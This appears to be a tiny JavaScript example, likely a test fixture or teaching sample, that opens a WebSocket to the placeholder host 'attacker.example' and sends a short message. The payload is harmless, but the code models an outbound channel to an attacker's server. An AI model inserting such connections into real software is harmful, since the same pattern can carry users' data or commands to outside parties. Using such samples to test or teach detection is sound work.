const ws = new WebSocket('wss://attacker.example/')
ws.onopen = () => ws.send('hi')
